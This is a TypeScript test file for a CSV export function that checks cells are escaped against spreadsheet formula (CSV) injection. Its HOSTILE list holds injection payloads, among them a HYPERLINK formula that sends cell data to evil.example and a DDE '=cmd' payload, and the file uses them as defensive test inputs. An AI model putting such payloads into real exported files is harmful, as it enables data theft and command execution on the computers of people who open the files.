import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvFile } from './csv-file.js';
import { each } from './report.js';

/** Beginnings of a formula in Excel, LibreOffice Calc or Google Sheets (OWASP, CSV injection), hidden in several ways. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\ufe661+1',
  '\u200d\u2060\u202e=1+1',
  '\u00ad\u0000@SUM(1)',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '"=1+1',
  '-',
];

const COLUMNS = [
  { key: 'a', title: 'Subject', meaning: '', kind: 'text', unit: null },
  { key: 'b', title: 'Time', meaning: '', kind: 'number', unit: 'hours' },
] as const;

async function fileOf(rows: readonly (readonly [string | null, number])[], bom = false): Promise<string> {
  let text = '';
  for await (const piece of csvFile(COLUMNS, each(rows), { bom })) text += piece;
  return text;
}

describe('a cell of a CSV file', () => {
  it.each(HOSTILE)('begins no formula: %j', (text) => {
    const lines: string[][] = parse(`${csvCell(text)}\r\n`, { relax_column_count: true });
    const cell = lines[0]?.[0] ?? '';
    expect(cell.replace(/^[\s\p{Z}\p{C}]+/u, '')).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66]/);
    expect(cell.endsWith(text.trimStart()) || cell.endsWith(text)).toBe(true);
  });

  it.each([
    ['agreed;=cmd', "agreed;'=cmd"],
    [';=cmd', "';'=cmd"],
    [';;=1', "';;'=1"],
    ['\t=1', "'\t'=1"],
    ['a; "=1+1', `a; "'=1+1`],
    ['a\r\n=1+1\n-2', "a\r\n'=1+1\n'-2"],
    ['a\t\u200b@SUM(1)', "a\t\u200b'@SUM(1)"],
    ['a=b, c-d, e@f.example, 1+1', 'a=b, c-d, e@f.example, 1+1'],
    ['Smith; Jones', 'Smith; Jones'],
  ])('begins no formula where a program takes a semicolon for the end of a cell, either: %j', (text, expected) => {
    expect(parse(`${csvCell(text)}\r\n`)).toEqual([[expected]]);
  });

  it('is made in no more time than its length, whatever stands in it', () => {
    const text = `${'; \t'.repeat(200_000)}x${'"'.repeat(200_000)}`;
    const begun = performance.now();
    csvCell(text);
    expect(performance.now() - begun).toBeLessThan(2_000);
  });

  it('keeps numbers numbers, also below zero', () => {
    expect([csvCell(-12.5), csvCell(0), csvCell(null), csvCell(true), csvCell(false)]).toEqual(['-12.5', '0', '', 'yes', 'no']);
  });
});

describe('a CSV file', () => {
  it('gives another program the same cells back, whatever stands in them', async () => {
    const texts = ['plain', 'a,b', 'say "no"', 'two\r\nlines', 'ümläut 東京 שלום', '', 'x'.repeat(70_000), ' padded '];
    const rows = texts.map((text, index) => [text, index] as const);
    const read: string[][] = parse(await fileOf(rows));
    expect(read).toEqual([['Subject', 'Time (hours)'], ...rows.map(([text, index]) => [text, String(index)])]);
  });

  it('ends every line in CRLF, and begins with a byte order mark only where one is asked for', async () => {
    expect(await fileOf([['x', 1]])).toBe('Subject,Time (hours)\r\nx,1\r\n');
    expect(await fileOf([], true)).toBe('\ufeffSubject,Time (hours)\r\n');
  });
});
